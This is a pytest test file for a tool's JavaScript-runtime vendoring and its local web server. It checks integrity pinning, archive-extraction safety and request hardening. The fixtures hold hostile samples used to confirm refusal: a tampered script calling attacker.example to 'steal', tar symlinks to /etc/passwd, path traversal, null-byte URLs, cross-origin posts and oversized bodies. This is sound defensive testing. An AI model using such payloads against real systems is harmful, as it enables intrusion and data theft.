"""`gan-edge web` without a browser: the runtimes from an install, and a server bad requests cannot hurt.

The page's JavaScript runtimes (gan_edge.web_vendor): taken from the page's node_modules
when it holds the pinned versions, else from the user cache, else fetched by `npm pack`,
here a fake npm earlier on PATH that hands out tarballs made by the test (no network).
The lock file pins their sha512, so a tampered tarball is refused before extraction; unsafe
members are refused before anything is written.

The server (gan_edge.web_server), spoken to over 127.0.0.1 with http.client and raw
sockets: bounded and checked reports, same-origin POSTs only, malformed requests answered
without a traceback, models served as the bytes checked at start-up, a bounded number of
connection threads, and a warning when the page is open to the network.
"""

from __future__ import annotations

import base64
import hashlib
import http.client
import io
import json
import os
import select
import socket
import subprocess
import sys
import tarfile
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from gan_edge import web_server, web_vendor
from gan_edge.cli.main import main
from gan_edge.cli.web import is_loopback
from gan_edge.errors import BackendUnavailable
from gan_edge.web import make_server
from gan_edge.web_vendor import PinnedPackage, find_runtimes, install_tarball

PINNED = {"@litertjs/core": "2.5.3", "@litertjs/wasm-utils": "2.5.3", "onnxruntime-web": "1.30.0"}
PAGE = b"<!doctype html><title>the page under test</title>"


# --- fakes: npm tarballs, a lock file pinning them, an npm on PATH -----------------------


def _script(name: str) -> bytes:
    return f"export const name = {json.dumps(name)};\n".encode()


def _tarball(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


def _package_members(name: str, version: str) -> list:
    return [
        _file("package/package.json", json.dumps({"name": name, "version": version}).encode()),
        _file("package/dist/index.js", _script(name)),
    ]


def _sri(path: Path) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(path.read_bytes()).digest()).decode()


@pytest.fixture(scope="module")
def tarballs(tmp_path_factory) -> dict[str, Path]:
    """An npm-shaped tarball per pinned runtime: package.json and dist/index.js."""
    folder = tmp_path_factory.mktemp("tarballs")
    return {
        name: _tarball(folder / f"{name.replace('/', '+')}-{version}.tgz", _package_members(name, version))
        for name, version in PINNED.items()
    }


def _write_page(folder: Path, tarballs: dict[str, Path]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "index.html").write_bytes(PAGE)
    (folder / "app.js").write_bytes(_script("app"))
    packages = {"": {"name": "gan-edge-web", "dependencies": PINNED}}
    for name, version in PINNED.items():
        packages[f"node_modules/{name}"] = {"version": version, "integrity": _sri(tarballs[name])}
    (folder / "package-lock.json").write_text(json.dumps({"lockfileVersion": 3, "packages": packages}))
    return folder


@pytest.fixture
def page(tmp_path, tarballs, monkeypatch) -> SimpleNamespace:
    """A page folder ($GAN_EDGE_WEB_DIR) whose lock pins the fake tarballs; an empty cache."""
    folder = _write_page(tmp_path / "page", tarballs)
    cache = tmp_path / "cache"
    monkeypatch.setenv("GAN_EDGE_WEB_DIR", str(folder))
    monkeypatch.setenv("GAN_EDGE_CACHE", str(cache))
    return SimpleNamespace(dir=folder, cache=cache, web_cache=cache / "web")


def _install_node_modules(page_dir: Path, versions: dict[str, str] = PINNED) -> None:
    for name, version in versions.items():
        folder = page_dir / "node_modules" / name
        (folder / "dist").mkdir(parents=True)
        (folder / "package.json").write_text(json.dumps({"name": name, "version": version}))
        (folder / "dist" / "index.js").write_bytes(_script(name))


@pytest.fixture
def fake_npm(tmp_path, tarballs, monkeypatch) -> SimpleNamespace:
    """`npm` first on PATH: `npm pack NAME@VERSION --pack-destination DIR` copies the test's tarball."""
    bin_dir, served = tmp_path / "bin", tmp_path / "npm-serves"
    bin_dir.mkdir()
    served.mkdir()
    for name, path in tarballs.items():
        (served / f"{name.replace('/', '+')}@{PINNED[name]}.tgz").write_bytes(path.read_bytes())
    log = tmp_path / "npm.log"
    npm = bin_dir / "npm"
    npm.write_text(
        f"#!{sys.executable}\n"
        "import os, shutil, sys\n"
        "args = sys.argv[1:]\n"
        f"open({str(log)!r}, 'a').write(' '.join(args) + '\\n')\n"
        "if os.environ.get('FAKE_NPM_FAIL'):\n"
        "    print('npm error code E404', file=sys.stderr)\n"
        "    print('npm error 404 Not Found - the package is not in this registry', file=sys.stderr)\n"
        "    sys.exit(1)\n"
        "source = os.path.join(" + repr(str(served)) + ", args[1].replace('/', '+') + '.tgz')\n"
        "shutil.copy(source, args[args.index('--pack-destination') + 1])\n"
    )
    npm.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")

    def calls() -> list[str]:
        return log.read_text().splitlines() if log.exists() else []

    return SimpleNamespace(served=served, calls=calls)


@pytest.fixture
def no_npm(tmp_path, monkeypatch) -> None:
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))


# --- the runtimes from an install ---------------------------------------------------------


def test_runtimes_are_fetched_once_checked_and_then_taken_from_the_cache(page, fake_npm):
    said = []
    first = find_runtimes(page.dir, fetch=True, on_fetch=said.append)
    assert first == {name: page.web_cache / f"{name}-{version}" for name, version in PINNED.items()}
    for name, folder in first.items():
        assert (folder / "dist" / "index.js").read_bytes() == _script(name)
    assert [call.split()[:2] for call in fake_npm.calls()] == [["pack", f"{n}@{v}"] for n, v in PINNED.items()]
    assert said == [
        "fetching the page's JavaScript runtimes: @litertjs/core 2.5.3, @litertjs/wasm-utils 2.5.3, "
        f"onnxruntime-web 1.30.0 (npm pack, sha512 checked) into {page.web_cache}"
    ]
    # No staging folder is left beside the complete ones.
    assert sorted(p.name for p in page.web_cache.rglob("*") if p.name.startswith(".")) == []

    again = find_runtimes(page.dir, fetch=True, on_fetch=said.append)
    assert again == first and len(fake_npm.calls()) == 3 and len(said) == 1
    assert find_runtimes(page.dir, fetch=False) == first


def test_node_modules_at_the_pinned_versions_come_first(page, no_npm):
    _install_node_modules(page.dir)
    assert find_runtimes(page.dir, fetch=True) == {name: page.dir / "node_modules" / name for name in PINNED}


def test_node_modules_at_other_versions_are_not_used(page, fake_npm):
    _install_node_modules(page.dir, {**PINNED, "onnxruntime-web": "1.29.0"})
    found = find_runtimes(page.dir, fetch=True)
    assert found["onnxruntime-web"] == page.web_cache / "onnxruntime-web-1.30.0"
    assert found["@litertjs/core"] == page.dir / "node_modules" / "@litertjs/core"
    assert [call.split()[1] for call in fake_npm.calls()] == ["onnxruntime-web@1.30.0"]


def test_a_tampered_tarball_is_refused_before_anything_is_extracted(page, fake_npm, tmp_path):
    served = fake_npm.served / "onnxruntime-web@1.30.0.tgz"
    tampered = _tarball(tmp_path / "t.tgz", [
        _file("package/package.json", json.dumps({"name": "onnxruntime-web", "version": "1.30.0"}).encode()),
        _file("package/dist/index.js", b"fetch('https://attacker.example/steal');\n"),
    ])
    served.write_bytes(tampered.read_bytes())
    with pytest.raises(BackendUnavailable) as refused:
        find_runtimes(page.dir, fetch=True)
    message = str(refused.value)
    assert message.startswith(f"the tarball npm gave for onnxruntime-web 1.30.0 has {_sri(tampered)[:30]}...")
    assert "package-lock.json pins sha512-" in message and "nothing extracted" in message and "\n" not in message
    assert not (page.web_cache / "onnxruntime-web-1.30.0").exists()
    assert not list(page.web_cache.glob(".onnxruntime-web*"))


def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


UNSAFE = {
    "symlink": ([(_info("package/dist/index.js", tarfile.SYMTYPE, "/etc/passwd"), None)],
                "a member that is not a regular file or folder"),
    "hard link": ([(_info("package/x.js", tarfile.LNKTYPE, "package/package.json"), None)],
                  "a member that is not a regular file or folder"),
    "fifo": ([(_info("package/pipe", tarfile.FIFOTYPE), None)], "a member that is not a regular file or folder"),
    "device": ([(_info("package/tty", tarfile.CHRTYPE), None)], "a member that is not a regular file or folder"),
    "absolute": ([_file("/tmp/evil.js", b"x")], "a member outside the package"),
    "dot-dot": ([_file("package/../../evil.js", b"x")], "a member outside the package"),
    "top-level file": ([_file("evil.js", b"x")], "a file outside the package's top folder"),
    "twice": ([_file("package/dist/index.js", b"again")], "a file named twice"),
}


@pytest.mark.parametrize("case", sorted(UNSAFE))
def test_unsafe_members_are_refused_and_nothing_is_written(case, tmp_path):
    extra, why = UNSAFE[case]
    pin = PinnedPackage("onnxruntime-web", "1.30.0", "sha512-unused")
    tarball = _tarball(tmp_path / "unsafe.tgz", _package_members(pin.name, pin.version) + extra)
    final = tmp_path / "cache" / "web" / "onnxruntime-web-1.30.0"
    with pytest.raises(BackendUnavailable) as refused:
        install_tarball(tarball, pin, final)
    assert str(refused.value).startswith(f"the tarball of onnxruntime-web 1.30.0 has {why} (")
    assert str(refused.value).endswith("): refused, nothing extracted")
    assert not (tmp_path / "cache").exists()  # checked before any folder was made


@pytest.mark.parametrize("bound,value,why", [
    ("MAX_UNPACKED_BYTES", 100, "more than 100 bytes unpacked"),
    ("MAX_MEMBERS", 2, "more than 2 members"),
])
def test_archives_beyond_the_size_bounds_are_refused(bound, value, why, tmp_path, monkeypatch):
    monkeypatch.setattr(web_vendor, bound, value)
    pin = PinnedPackage("onnxruntime-web", "1.30.0", "sha512-unused")
    members = _package_members(pin.name, pin.version) + [_file("package/dist/big.wasm", bytes(200))]
    with pytest.raises(BackendUnavailable, match=f"has {why} "):
        install_tarball(_tarball(tmp_path / "big.tgz", members), pin, tmp_path / "cache" / "x")
    assert not (tmp_path / "cache").exists()


def test_a_package_that_is_not_the_pinned_one_is_refused(tmp_path):
    pin = PinnedPackage("onnxruntime-web", "1.30.0", "sha512-unused")
    tarball = _tarball(tmp_path / "other.tgz", _package_members("onnxruntime-web", "1.29.0"))
    final = tmp_path / "web" / "onnxruntime-web-1.30.0"
    with pytest.raises(BackendUnavailable, match="holds no package.json naming onnxruntime-web 1.30.0"):
        install_tarball(tarball, pin, final)
    assert list((tmp_path / "web").iterdir()) == []  # the staging folder is gone


def _one_line_error(capsys, argv) -> str:
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("gan-edge web: error: "), err
    return err


def test_without_npm_the_command_says_what_to_do(page, no_npm, runtime_export, capsys):
    model = runtime_export("static4")
    err = _one_line_error(capsys, ["web", str(model.parent)])
    assert "npm is not installed" in err and "@litertjs/core 2.5.3" in err
    assert "install Node.js's npm" in err and "npm ci --prefix firmware_examples/web" in err
    assert f"put each package's contents at {page.web_cache}/<name>-<version>" in err
    assert not page.cache.exists()


def test_no_fetch_refuses_instead_of_fetching(page, fake_npm, runtime_export, capsys):
    model = runtime_export("static4")
    err = _one_line_error(capsys, ["web", str(model.parent), "--no-fetch"])
    assert "are neither in" in err and "without --no-fetch" in err and "onnxruntime-web 1.30.0" in err
    assert fake_npm.calls() == [] and not page.cache.exists()


def test_a_failing_npm_is_named_with_its_own_last_words(page, fake_npm, runtime_export, capsys, monkeypatch):
    monkeypatch.setenv("FAKE_NPM_FAIL", "1")
    model = runtime_export("static4")
    assert main(["web", str(model.parent)]) == 2
    fetching, err = capsys.readouterr().err.splitlines()  # the line said before npm ran, then the error
    assert fetching.startswith("fetching the page's JavaScript runtimes: @litertjs/core 2.5.3")
    assert err.startswith("gan-edge web: error: `npm pack @litertjs/core@2.5.3` failed")
    assert "`npm pack @litertjs/core@2.5.3` failed with status 1 (npm error 404 Not Found" in err
    assert "npm config get registry" in err
    assert not (page.web_cache / "@litertjs").exists() or not list((page.web_cache / "@litertjs").iterdir())


# --- the server ---------------------------------------------------------------------------


@pytest.fixture
def served(page, runtime_export):
    """A running server for one static-batch generator, its runtimes in the page's node_modules."""
    _install_node_modules(page.dir)
    model = runtime_export("static4")
    server = make_server(model.parent, port=0)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield SimpleNamespace(server=server, model=model, address=server.server_address[:2], page=page)
    server.shutdown()
    server.server_close()


def _request(address, method: str, path: str, body: bytes | None = None, headers=None):
    connection = http.client.HTTPConnection(*address, timeout=10)
    try:
        connection.request(method, path, body=body, headers=headers or {})
        reply = connection.getresponse()
        return reply.status, reply.read(), reply
    finally:
        connection.close()


def _post(served, body: bytes, **headers):
    host, port = served.address
    headers = {"Content-Type": "application/json", "Origin": f"http://{host}:{port}", **headers}
    status, data, _ = _request(served.address, "POST", "/api/report", body, headers)
    return status, json.loads(data)


def _raw(address, request: bytes) -> tuple[int, bytes]:
    with socket.create_connection(address, timeout=10) as connection:
        connection.sendall(request)
        data = b""
        while chunk := connection.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


def test_reports_are_bounded_in_size_and_number(served):
    host, port = served.address
    status, body = _raw(served.address, (
        f"POST /api/report HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {60 << 20}\r\n\r\n"
    ).encode())
    assert status == 413
    assert json.loads(body) == {"error": f"a report is at most {web_server.MAX_REPORT_BYTES:,} bytes, got {60 << 20:,}"}
    for i in range(web_server.REPORTS_KEPT + 10):
        assert _post(served, json.dumps({"kind": "result", "i": i}).encode()) == (200, {})
    kept = [served.server.reports.get_nowait()["i"] for _ in range(served.server.reports.qsize())]
    assert kept == list(range(10, web_server.REPORTS_KEPT + 10))  # the newest, in order


def test_reports_handed_to_a_callback_are_not_kept(served):
    taken = []
    served.server.on_report = taken.append
    for i in range(5):
        assert _post(served, json.dumps({"i": i}).encode()) == (200, {})
    assert taken == [{"i": i} for i in range(5)] and served.server.reports.qsize() == 0


def test_only_the_pages_own_origin_may_post_json(served):
    report = json.dumps({"kind": "bench", "row": {"us": 1}}).encode()
    host, port = served.address
    assert _post(served, report, Origin="https://attacker.example") == (
        403, {"error": f"reports from origin 'https://attacker.example' are refused: only http://{host}:{port}"}
    )
    assert _post(served, report, Origin="null")[0] == 403
    assert _post(served, report, **{"Content-Type": "text/plain"}) == (
        415, {"error": "a report is application/json, got 'text/plain'"}
    )
    assert served.server.reports.qsize() == 0
    assert _post(served, report) == (200, {})  # the page's own origin
    status, _, _ = _request(served.address, "POST", "/api/report", report, {"Content-Type": "application/json"})
    assert status == 200  # no Origin: not a browser page (curl, a script on this machine)
    assert served.server.reports.qsize() == 2


@pytest.mark.parametrize("body,headers,status,error", [
    (b"{}", {"Content-Length": "abc"}, 400, "Content-Length must be a positive integer, got 'abc'"),
    (b"{}", {"Content-Length": "-1"}, 400, "Content-Length must be a positive integer, got '-1'"),
    (b"[1]", {}, 400, "a report is a JSON object, got a list"),
    (b"[" * 100_000, {}, 400, "a report is JSON text: maximum recursion depth exceeded"),
    (b"1" * 5000, {}, 400, "a report is JSON text: Exceeds the limit (4300 digits)"),
    (b"\xff{}", {}, 400, "a report is JSON text: 'utf-8' codec can't decode"),
    (b"{", {}, 400, "a report is JSON text: Expecting property name"),
])
def test_malformed_reports_get_400_and_no_traceback(served, capfd, body, headers, status, error):
    host, port = served.address
    fields = {"Host": f"{host}:{port}", "Content-Type": "application/json", "Content-Length": str(len(body)), **headers}
    head = "".join(f"{k}: {v}\r\n" for k, v in fields.items())
    got, reply = _raw(served.address, f"POST /api/report HTTP/1.1\r\n{head}\r\n".encode() + body)
    assert got == status and json.loads(reply)["error"].startswith(error), reply[:200]
    assert _request(served.address, "GET", "/")[:2] == (200, PAGE)  # still serving
    assert "Traceback" not in capfd.readouterr().err


def test_a_post_without_length_is_refused(served):
    host, port = served.address
    status, body = _raw(served.address, (
        f"POST /api/report HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"
    ).encode())
    assert (status, json.loads(body)) == (411, {"error": "a report needs a Content-Length"})


@pytest.mark.parametrize("path", [
    "/vendor/onnxruntime-web/%00", "/vendor/onnxruntime-web/dist/%00.js", "/vendor/onnxruntime-web/dist/",
    "/vendor/onnxruntime-web/../../package-lock.json", "/vendor/%2e%2e/app.js", "/package-lock.json",
    "/vendor/left-pad/index.js", "/models/", "/models/../app.js", "/etc/passwd",
])
def test_paths_outside_the_served_files_are_404_without_a_traceback(served, capfd, path):
    status, _, _ = _request(served.address, "GET", path)
    assert status == 404
    assert "Traceback" not in capfd.readouterr().err


def test_the_page_and_the_runtimes_are_served(served):
    status, body, reply = _request(served.address, "GET", "/vendor/@litertjs/core/dist/index.js")
    assert (status, body) == (200, _script("@litertjs/core"))
    assert reply.headers["Content-Type"] == "text/javascript"
    assert reply.headers["Cross-Origin-Embedder-Policy"] == "require-corp"
    assert _request(served.address, "GET", "/app.js")[:2] == (200, _script("app"))
    assert _request(served.address, "GET", "/index.html")[:2] == (200, PAGE)


def test_models_are_the_bytes_checked_at_start_never_reread(served, tmp_path):
    model = served.model
    checked = model.read_bytes()
    sidecar = json.loads(model.with_name(model.name + ".manifest.json").read_text())
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"root:x:0:0:root:/root:/bin/bash\n")
    model.unlink()
    model.symlink_to(secret)  # swapped after the start-up check
    status, body, reply = _request(served.address, "GET", f"/models/{model.name}")
    assert status == 200 and body == checked and reply.headers["Content-Type"] == "application/octet-stream"
    status, body, _ = _request(served.address, "GET", f"/models/{model.name}.manifest.json")
    assert status == 200 and json.loads(body) == sidecar
    status, body, _ = _request(served.address, "GET", "/api/models")
    (listed,) = json.loads(body)["models"]
    assert listed["file"] == model.name and listed["size"] == len(checked)


def test_idle_connections_hold_a_bounded_number_of_threads(served):
    threads_before = threading.active_count()
    peak, idle = threads_before, []
    try:
        for i in range(300):
            idle.append(socket.create_connection(served.address, timeout=10))
            if i % 25 == 0:
                peak = max(peak, threading.active_count())
        deadline = time.monotonic() + 0.5
        while time.monotonic() < deadline:
            peak = max(peak, threading.active_count())
            time.sleep(0.05)
        started = time.monotonic()
        assert _request(served.address, "GET", "/")[:2] == (200, PAGE)
        assert time.monotonic() - started < 5
        # Every connection beyond the bound displaced an older idle one: the server closed it.
        poller = select.poll()  # not select.select: the suite's descriptors may pass 1024
        for connection in idle:
            poller.register(connection, select.POLLIN)
        readable = {fd for fd, _ in poller.poll(0)}
        closed = sum(c.recv(1) == b"" for c in idle if c.fileno() in readable)
    finally:
        for connection in idle:
            connection.close()
    assert peak - threads_before <= web_server.MAX_CONNECTIONS + 1, (peak, threads_before)
    assert closed >= 300 + 1 - web_server.MAX_CONNECTIONS


def test_a_connection_that_sends_nothing_is_closed_after_the_timeout(served, monkeypatch):
    monkeypatch.setattr(web_server._Handler, "timeout", 0.3)
    with socket.create_connection(served.address, timeout=10) as connection:
        started = time.monotonic()
        assert connection.recv(1) == b""
        assert time.monotonic() - started < 5


# --- the command line ---------------------------------------------------------------------


def test_loopback_addresses():
    assert [is_loopback(h) for h in ("127.0.0.1", "127.0.0.2", "::1", "localhost")] == [True] * 4
    assert [is_loopback(h) for h in ("0.0.0.0", "::", "192.168.1.20", "my-laptop.local")] == [False] * 4


def _start_cli(args: list[str]) -> tuple[subprocess.Popen, list[str]]:
    process = subprocess.Popen(
        [sys.executable, "-m", "gan_edge.cli.main", "web", *args, "--port", "0"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    return process, [process.stdout.readline() for _ in range(2)]


def _stop(process: subprocess.Popen) -> str:
    process.terminate()
    process.wait(timeout=10)
    return process.stderr.read()


def test_listening_beyond_this_machine_prints_one_warning(page, runtime_export):
    _install_node_modules(page.dir)
    folder = str(runtime_export("static4").parent)
    process, out = _start_cli([folder, "--host", "0.0.0.0"])
    err = _stop(process)
    assert out[0].startswith("serving 1 generator(s)"), (out, err)
    (warning,) = err.splitlines()
    assert warning.startswith("gan-edge web: warning: listening on 0.0.0.0:")
    assert "anyone on the network can open the page" in warning and "--host 127.0.0.1" in warning

    process, out = _start_cli([folder])
    assert out[1].startswith("open http://127.0.0.1:")
    assert _stop(process) == ""


def test_the_first_run_says_it_fetches_and_then_serves_the_fetched_runtimes(page, fake_npm, runtime_export):
    process, out = _start_cli([str(runtime_export("static4").parent)])
    try:
        url = out[1].split()[1]
        host, port = url.removeprefix("http://").rstrip("/").split(":")
        status, body, _ = _request((host, int(port)), "GET", "/vendor/onnxruntime-web/dist/index.js")
    finally:
        err = _stop(process)
    assert err.splitlines() == [
        "fetching the page's JavaScript runtimes: @litertjs/core 2.5.3, @litertjs/wasm-utils 2.5.3, "
        f"onnxruntime-web 1.30.0 (npm pack, sha512 checked) into {page.web_cache}"
    ]
    assert (status, body) == (200, _script("onnxruntime-web"))
